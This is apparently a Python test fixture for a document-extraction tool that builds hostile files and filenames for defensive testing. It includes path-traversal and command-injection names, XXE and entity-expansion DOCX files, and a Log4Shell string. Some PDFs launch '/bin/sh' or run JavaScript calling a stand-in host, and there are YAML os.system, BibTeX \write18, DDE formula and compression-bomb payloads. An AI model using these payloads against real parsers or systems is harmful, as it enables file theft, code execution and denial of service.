"""Hostile files and names of files. `SECRET` stands for a file beside that none may show, `ASKED` for an address that
none may ask: both are put in when a file is made.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from typing import Any

from tests.extraction.documents import PAGE, assembled, docx, paragraph, pdf

SECRET, ASKED = b"@SECRET@", b"http://asked.example/"

NAMES = (
    "../../../../etc/cron.d/x.md",
    "..\\..\\windows\\system32\\x.md",
    "/etc/passwd",
    "C:\\x.md",
    "\\\\server\\share\\x.md",
    "file:///etc/passwd",
    "....//....//x.md",
    "%2e%2e%2fx.md",
    "..",
    ".",
    "",
    " ",
    "...",
    "~",
    "~root/x.md",
    "-rf",
    "--help.md",
    "$(touch owned).md",
    "`touch owned`.md",
    "; touch owned #.md",
    "| touch owned",
    "x.md\ntouch owned",
    "a\x00b.md",
    "x.md\x00.png",
    "\x1b[31mred.md",
    "con.md",
    "NUL",
    "aux.pdf",
    "x.md:stream",
    "x.md.",
    "x.md ",
    "CON .md",
    "x" * 5000 + ".md",
    "é" * 200 + ".md",
    "e\u0301.md",
    "\u202efdp.md",
    "\u200b.md",
    "\ufeff.md",
    "ﬁle.md",
    "𝒙.md",
    "文件.md",
    "ملف.md",
    "😀.md",
    "ＮＵＬ",
    "․․/x.md",
    "x\u2215y.md",
    "x\uff0fy.md",
    "<script>alert(1)</script>.md",
    '"><img src=x>.md',
    "' OR 1=1 --.md",
    "{{7*7}}.md",
    "${jndi:ldap://asked.example/x}.md",
    "%s%n%x.md",
    ".htaccess",
    ".env",
    "doc.md",
    "sessions",
    "coscribe.db",
    "secret_key",
)


def archive(*entries: tuple[str, bytes], link: str = "") -> bytes:
    """An archive with these entries; `link` is the name of one that is a symbolic link to the secret."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, content in entries:
            made.writestr(name, content)
        if link:
            info = zipfile.ZipInfo(link)
            info.create_system, info.external_attr = 3, 0o120777 << 16
            made.writestr(info, SECRET)
    return out.getvalue()


def word(body: str, head: str = "", **beside: str) -> bytes:
    return docx(body, {name.replace("__", "/"): content for name, content in beside.items()}, head)


def action(kind: str, more: str) -> bytes:
    """A PDF that wants to do something as it is opened."""
    opens = f"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /{kind} {more} >> >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>"
    return assembled([opens.encode(), b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page])


def cited(**fields: Any) -> bytes:
    return json.dumps([{"id": "a", "type": "book", "title": "T"} | fields]).encode()


_XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file://@SECRET@">]>'
_ASKS = '<!DOCTYPE x SYSTEM "http://asked.example/x.dtd" [<!ENTITY % p SYSTEM "http://asked.example/p"> %p;]>'
_RELATED = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_PICTURE = '<Relationship Id="s1" TargetMode="External" Target="{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}"/>'
_HTML = "<!doctype html><html><head>{}</head><body><article><h1>T</h1><p>Forty sites were surveyed here.</p>{}</article></body></html>"  # noqa: E501
FILES: dict[str, bytes] = {
    **{
        f"entity{number}.docx": word(paragraph(text), head)
        for number, (text, head) in enumerate(
            [
                ("&e;", _XXE),
                ("x", _ASKS),
                ("&e;", _XXE.replace("file://", "")),
                (
                    "&lol9;",
                    "<!DOCTYPE x [<!ENTITY lol0 'lol'>"
                    + "".join(f"<!ENTITY lol{n + 1} '{f'&lol{n};' * 10}'>" for n in range(9))
                    + "]>",
                ),
            ]
        )
    },
    **{
        f"related{number}.docx": docx(
            paragraph("x"), {"word/_rels/document.xml.rels": _RELATED.format(_PICTURE.format(target, kind))}
        )
        for number, (target, kind) in enumerate(
            [
                ("http://asked.example/x", "image"),
                ("file://@SECRET@", "image"),
                ("http://asked.example/t.dotm", "attachedTemplate"),
                ("@SECRET@", "styles"),
                ("../../../../@SECRET@", "styles"),
            ]
        )
    },
    "slip.docx": docx(paragraph("x"), {"../../../../owned.md": "x", "/owned.md": "x", "..\\owned.md": "x"}),
    "macro.docx": docx(paragraph("x"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99}),
    "twice.docx": docx(paragraph("one")) + docx(paragraph("two")),
    "link.docx": archive(("word/document.xml", b"<x/>"), link="word/styles.xml"),
    "no document.docx": archive(("a", b"b")),
    "empty.docx": archive(),
    "only a head.docx": b"PK\x03\x04" + b"\x00" * 26,
    "no directory.docx": docx(paragraph("x"))[:-22],
    "wrong sum.docx": docx(paragraph("words " * 50)).replace(b"word", b"w0rd"),
    "fields.docx": word(paragraph(" INCLUDETEXT @SECRET@ ").replace("w:t", "w:instrText")),
    "formula.docx": word(paragraph("=cmd|'/c calc'!A0")),
    "no xml.docx": docx("<w:p>" * 50),
    "surrogate.docx": word(paragraph("&#xD800;&#0;")),
    "script.pdf": action("JavaScript", "/JS (app.launchURL\\('http://asked.example/'\\))"),
    "launch.pdf": action("Launch", "/F (/bin/sh) /P (-c 'touch owned')"),
    "uri.pdf": action("URI", "/URI (http://asked.example/)"),
    "remote.pdf": action("GoToR", "/F (@SECRET@)"),
    "import.pdf": action("ImportData", "/F (@SECRET@)"),
    "submit.pdf": action("SubmitForm", "/F (http://asked.example/)"),
    "a stream in a file.pdf": assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            b"<< /Length 0 /F (@SECRET@) >>\nstream\n\nendstream",
        ]
    ),
    "negative.pdf": pdf("x").replace(b"/Count 1", b"/Count -1"),
    "no end.pdf": pdf("words " * 20)[:300],
    "itself.pdf": pdf("x").replace(b"/Kids [5 0 R]", b"/Kids [2 0 R]"),
    "noughts.pdf": b"%PDF-1.7\n" + b"\x00" * 100_000,
    "two.pdf": pdf("one") + pdf("two"),
    "page.pdf": PAGE.encode(),
    "encrypted.pdf": pdf("x").replace(
        b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>"
    ),
    "no font.pdf": pdf("x").replace(b"/Helvetica", b"/" + b"A" * 60_000),
    "huge.pdf": pdf("x").replace(b"595", b"1e38"),
    "bomb in bomb.pdf": assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            (
                lambda packed: (
                    b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream"
                    % (len(packed), packed)
                )
            )(zlib.compress(zlib.compress(b" " * 50_000_000))),
        ]
    ),
    **{
        f"page{number}.html": _HTML.format(head, body).encode()
        for number, (head, body) in enumerate(
            [
                ("<base href=http://asked.example/>", "<img src=x><iframe src=/></iframe>"),
                ("", "<script>while(1){}</script>"),
                ("<meta http-equiv=refresh content='0;url=http://asked.example/'>", ""),
                ("", "<object data=file://@SECRET@>"),
                ("<link rel=stylesheet href=http://asked.example/>", "<style>@import 'http://asked.example/';</style>"),
                ("", "<svg><foreignObject><p>x" * 800),
                ("", "<p>x<!--"),
                ("<meta charset=utf-7>", "+ADw-script+AD4-"),
                ("<title>" + "T" * 200_000 + "</title>", ""),
                ("", "&#0;&#xD800;&#x110000;&" + "a" * 9_000 + ";"),
            ]
        )
    },
    "xml.html": b"<?xml version='1.0'?>" + _XXE.encode() + b"<html><body><p>&e; words stand here</p></body></html>",
    "include.md": b"# T\n\n![x](@SECRET@) [y](file://@SECRET@) !include @SECRET@\n\n{% include '@SECRET@' %}",
    "yaml.md": b"---\ntitle: !!python/object/apply:os.system ['touch owned']\n---\n\nText.",
    "anchors.md": b"---\na: &a [x, x]\n"
    + b"".join(b"b%d: &b%d [*%s, *%s]\n" % (n, n, p, p) for n, p in enumerate([b"a", *(b"b%d" % n for n in range(30))]))
    + b"---\n\nText.",
    "bibliography.md": b"---\nbibliography: @SECRET@\ncsl: http://asked.example/\n---\n\nText [@a].",
    "noughts.md": b"\x00" * 10_000,
    "bytes.txt": bytes(range(256)) * 40,
    "utf-16.txt": "Tides \ud83d\ude00".encode("utf-16", "surrogatepass"),
    "half.txt": b"\xff\xfeT\x00i",
    "lines.txt": b"\r" * 200_000,
    "one line.txt": b"a" * 900_000,
    "input.bib": b"@book{a, title={\\input{@SECRET@} \\write18{touch owned}}, author={A}}",
    "string.bib": b'@string{a = a # a # a}\n@book{a, title = a # "x"}',
    "itself.bib": b"@book{a, title={T}, crossref={a}}",
    "no end.bib": b"@book{a, title={" + b"{}" * 9_000,
    "preamble.bib": b'@preamble{"\\input{@SECRET@}"}@book{a, title={T}}',
    "many.ris": b"TY  - BOOK\nTI  - T\nER  - \n" * 11_000,
    "path.ris": b"TY  - BOOK\nTI  - T\nL1  - file://@SECRET@\nER  - \n",
    "numbers.json": cited(issued={"date-parts": [[10**400, -1]]}),
    "lists.json": cited(title=[["x"]], author="x"),
    "deep.json": b'[{"title": ' + b"[" * 200_000,
    "infinity.json": b'[{"title": "T", "volume": 1e999}]',
    "keys.json": cited(**{f"k{number}": number for number in range(50_000)}),
    "url.json": cited(URL="file://@SECRET@"),
    "wav.pdf": b"RIFF" + struct.pack("<I", 2**32 - 1) + b"WAVE" + b"\x00" * 999,
    "gzip.md": b"\x1f\x8b" + b"\x00" * 99,
}


def made(name: str, secret: str, asked: str) -> bytes:
    """The file, with the path of a real secret, and an address at which somebody listens."""
    return FILES[name].replace(SECRET, secret.encode()).replace(ASKED, f"{asked}/".encode())
